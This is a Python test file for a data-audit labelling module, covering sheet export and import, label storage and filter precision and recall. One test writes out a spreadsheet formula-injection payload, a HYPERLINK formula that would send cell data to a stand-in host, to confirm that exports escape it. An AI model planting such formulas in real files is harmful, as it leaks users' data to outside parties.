"""Labels: out to a sheet, filled in, back, and what they say of a filter."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from audit import AuditRun
from audit.errors import AuditError, NotAnswerable
from audit.labelling import (
    Label,
    default_labels_path,
    export_sheet,
    import_sheet,
    measure_filter,
    read_labels,
    save_labels,
)
from audit.sampling import Sampled, sample
from pipelines.training.label_files import LabelFileError


def _fill(path: Path, label: str = "keep") -> None:
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    for place, row in enumerate(rows):
        row["label"] = ("" if place == 0 else label) if place < 3 else "drop"
        row["note"] = "looked at, \n twice"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, rows[0])
        writer.writeheader()
        writer.writerows(rows)


def test_a_sheet_comes_back_as_labels(run: AuditRun, tmp_path: Path) -> None:
    documents = sample(run, stage="math_score", n=8)
    sheet = tmp_path / "sheet.csv"
    assert export_sheet(sheet, documents) == 8
    _fill(sheet)
    labels = import_sheet(sheet, labeller="ada")
    assert [label.document_id for label in labels] == [d.document_id for d in documents[1:]]
    assert [label.label for label in labels] == ["keep"] * 2 + ["drop"] * 5
    assert {(label.labeller, label.note) for label in labels} == {("ada", "looked at, \n twice")}
    path = tmp_path / "labels.parquet"
    assert save_labels(path, labels) == read_labels(path)


def test_a_later_label_replaces_the_earlier_one(tmp_path: Path) -> None:
    path = tmp_path / "labels.parquet"
    save_labels(path, [Label("a", "u", "keep"), Label("b", "v", "yes")])
    held = save_labels(path, [Label("a", "u", "drop", note="no mathematics")])
    assert {key: label.label for key, label in held.items()} == {"a": "drop", "b": "keep"}
    assert held["a"].note == "no mathematics" and held["a"].labelled_at
    assert pq.read_schema(path).metadata[b"proofmill.schema"] == b"labels"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_no_spreadsheet_takes_a_text_for_a_formula(tmp_path: Path, start: str) -> None:
    evil = f'{start}HYPERLINK("https://example.org/?"&A1)'
    sheet = tmp_path / "sheet.csv"
    export_sheet(
        sheet,
        [
            Sampled(
                "a" * 32, evil, "", "en", 5, "drop", "x", "y", "x", -0.5, 0.1, "", evil, "dropped"
            )
        ],
    )
    (row,) = csv.DictReader(sheet.open(encoding="utf-8-sig", newline=""))
    assert row["text"] == row["url"] == f"'{evil}"
    assert row["score"] == "-0.5"


@pytest.mark.parametrize("suffix", [".tsv", ".parquet"])
def test_other_kinds_of_sheets_hold_the_same(run: AuditRun, tmp_path: Path, suffix: str) -> None:
    documents = sample(run, stage="perplexity", n=5)
    sheet = tmp_path / f"sheet{suffix}"
    assert export_sheet(sheet, documents) == 5
    assert import_sheet(sheet) == []
    with pytest.raises(AuditError, match=r"\.csv"):
        export_sheet(tmp_path / "sheet.xlsx", documents)


def test_a_label_that_is_none_names_its_line(tmp_path: Path) -> None:
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("document_id,label\nabc,keep\ndef,perhaps\n")
    with pytest.raises(LabelFileError, match=r"line 3.*perhaps"):
        import_sheet(sheet)
    sheet.write_text("id,label\nabc,keep\n")
    with pytest.raises(LabelFileError, match="document_id"):
        import_sheet(sheet)
    (tmp_path / "labels.parquet").write_text("no parquet")
    with pytest.raises(LabelFileError):
        read_labels(tmp_path / "labels.parquet")


def _labels_by_truth(run: AuditRun, wrong: int) -> dict[str, Label]:
    """Labels as MathScore decided, but for the ``wrong`` highest scores that it passed."""
    documents = sample(run, stage="math_score", n=1000, with_text=False)
    passed = sorted(
        (
            d
            for d in documents
            if d.score is not None and d.threshold is not None and d.score >= d.threshold
        ),
        key=lambda d: d.score or 0,
    )
    turned = {d.document_id for d in passed[:wrong]}
    ids = {d.document_id for d in passed} - turned
    return {
        d.document_id: Label(d.document_id, d.url, "keep" if d.document_id in ids else "drop")
        for d in documents
    }


def test_precision_and_recall_of_a_filter(run: AuditRun) -> None:
    labels = _labels_by_truth(run, wrong=10)
    labels["f" * 32] = Label("f" * 32, "", "keep")
    found = measure_filter(run, labels, "math_score")
    kept = sum(label.label == "keep" for label in labels.values()) - 1
    assert found.recall.value == 1.0 and found.recall.of == kept
    assert found.precision.value is not None
    assert found.precision.low < found.precision.value < found.precision.high
    assert found.precision.value == pytest.approx(kept / (kept + 10), abs=0.05)
    assert found.unknown == 1
    assert found.suggested is not None and found.suggested.precision >= 0.95


def test_a_filter_that_judged_none_of_them_is_told(run: AuditRun) -> None:
    with pytest.raises(NotAnswerable, match="shadow_share"):
        measure_filter(run, {"0" * 32: Label("0" * 32, "", "keep")}, "math_score")


def test_labels_of_a_run_lie_beside_it(run: AuditRun) -> None:
    assert default_labels_path(run).name == f"{Path(run.name).name}.labels.parquet"
